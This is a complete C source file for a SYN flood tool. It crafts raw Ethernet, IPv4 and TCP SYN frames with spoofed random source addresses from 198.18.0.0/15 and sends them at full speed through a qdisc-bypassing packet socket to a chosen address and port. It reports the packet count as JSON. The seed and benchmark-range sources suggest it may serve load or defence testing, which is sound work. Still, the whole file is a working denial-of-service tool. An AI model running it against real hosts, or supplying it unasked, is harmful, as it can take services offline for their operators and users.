/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A SYN flood: flood IF MAC ADDRESS PORT SECONDS [SEED]. Sends SYNs to an IPv4 address and port as fast
 * as one core can, from sources drawn from 198.18.0.0/15 (RFC 2544: nobody's), and prints
 * {"packets":…,"seconds":…}. Ends by itself, and at SIGTERM.
 */
#include <errno.h>
#include <inttypes.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/ether.h>

#define BURST       64
#define FRAME_BYTES 66 /* 14 Ethernet, 20 IPv4, 32 TCP with the usual options */

static volatile sig_atomic_t stopped;
static uint64_t rng;

static void on_signal(int number)
{
	(void)number;
	stopped = 1;
}

static void give_up(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* splitmix64 */
static uint64_t draw(void)
{
	uint64_t z = rng += UINT64_C(0x9e3779b97f4a7c15);

	z = (z ^ z >> 30) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ z >> 27) * UINT64_C(0x94d049bb133111eb);
	return z ^ z >> 31;
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

static uint32_t sum(const uint8_t *p, unsigned len)
{
	uint32_t total = 0;

	for (unsigned i = 0; i < len; i += 2)
		total += (uint32_t)p[i] << 8 | p[i + 1];
	return total;
}

static uint32_t fold(uint32_t total)
{
	total = (total >> 16) + (total & 0xffff);
	total = (total >> 16) + (total & 0xffff);
	return ~total & 0xffff;
}

/* What all SYNs have in common. */
static void frame_init(
	uint8_t *f, const uint8_t *to, const uint8_t *from, uint32_t address, uint16_t port)
{
	static const uint8_t options[] = { 2, 4, 5, 180, 4, 2, 1, 1, 1, 3, 3, 7 };

	memset(f, 0, FRAME_BYTES);
	memcpy(f, to, 6);
	memcpy(f + 6, from, 6);
	put16(f + 12, ETH_P_IP);
	f[14] = 0x45;
	put16(f + 16, FRAME_BYTES - 14);
	put16(f + 20, 0x4000);
	f[22] = 64;
	f[23] = 6;
	put32(f + 30, address);
	put16(f + 36, port);
	f[46] = 8 << 4;
	f[47] = 2;
	put16(f + 48, 64240);
	memcpy(f + 54, options, sizeof(options));
}

/* Another source, port and sequence number. */
static void frame_vary(uint8_t *f)
{
	uint64_t r = draw();

	put32(f + 26, UINT32_C(0xc6120000) | (r & 0x1ffff));
	put16(f + 34, 1024 + (r >> 17) % 64000);
	put32(f + 38, (uint32_t)(r >> 32));
	put16(f + 24, 0);
	put16(f + 24, fold(sum(f + 14, 20)));
	put16(f + 50, 0);
	put16(f + 50, fold(sum(f + 26, 8) + 6 + FRAME_BYTES - 34 + sum(f + 34, FRAME_BYTES - 34)));
}

static int open_interface(const char *name, uint8_t *mac)
{
	struct sockaddr_ll at = { .sll_family = AF_PACKET };
	socklen_t len = sizeof(at);
	int sock, one = 1;

	at.sll_ifindex = (int)if_nametoindex(name);
	sock = socket(AF_PACKET, SOCK_RAW, 0);
	if (at.sll_ifindex == 0 || sock < 0 ||
		setsockopt(sock, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) != 0 ||
		bind(sock, (const struct sockaddr *)&at, sizeof(at)) != 0 ||
		getsockname(sock, (struct sockaddr *)&at, &len) != 0)
		give_up(name);
	memcpy(mac, at.sll_addr, 6);
	return sock;
}

static uint64_t flood(int sock, uint8_t frames[BURST][FRAME_BYTES], double seconds)
{
	struct mmsghdr msgs[BURST];
	struct iovec iov[BURST];
	double end = now_s() + seconds;
	uint64_t sent = 0;

	for (unsigned i = 0; i < BURST; i++) {
		iov[i] = (struct iovec){ frames[i], FRAME_BYTES };
		msgs[i] = (struct mmsghdr){ .msg_hdr = { .msg_iov = &iov[i], .msg_iovlen = 1 } };
	}
	while (!stopped && now_s() < end) {
		int n;

		for (unsigned i = 0; i < BURST; i++)
			frame_vary(frames[i]);
		n = sendmmsg(sock, msgs, BURST, 0);
		if (n > 0)
			sent += (uint64_t)n;
	}
	return sent;
}

int main(int argc, char **argv)
{
	static uint8_t frames[BURST][FRAME_BYTES];
	struct ether_addr to;
	struct in_addr address;
	uint8_t from[6];
	double begin;
	uint64_t sent;
	int sock;

	if (argc < 6 || ether_aton_r(argv[2], &to) == NULL || inet_aton(argv[3], &address) == 0) {
		fprintf(stderr, "Usage: %s IF MAC ADDRESS PORT SECONDS [SEED]\n", argv[0]);
		return 2;
	}
	rng = argc > 6 ? strtoull(argv[6], NULL, 10) : 1;
	sock = open_interface(argv[1], from);
	for (unsigned i = 0; i < BURST; i++)
		frame_init(frames[i], to.ether_addr_octet, from, ntohl(address.s_addr),
			(uint16_t)strtoul(argv[4], NULL, 10));
	signal(SIGTERM, on_signal);
	begin = now_s();
	sent = flood(sock, frames, strtod(argv[5], NULL));
	printf("{\"packets\":%" PRIu64 ",\"seconds\":%.3f}\n", sent, now_s() - begin);
	return 0;
}
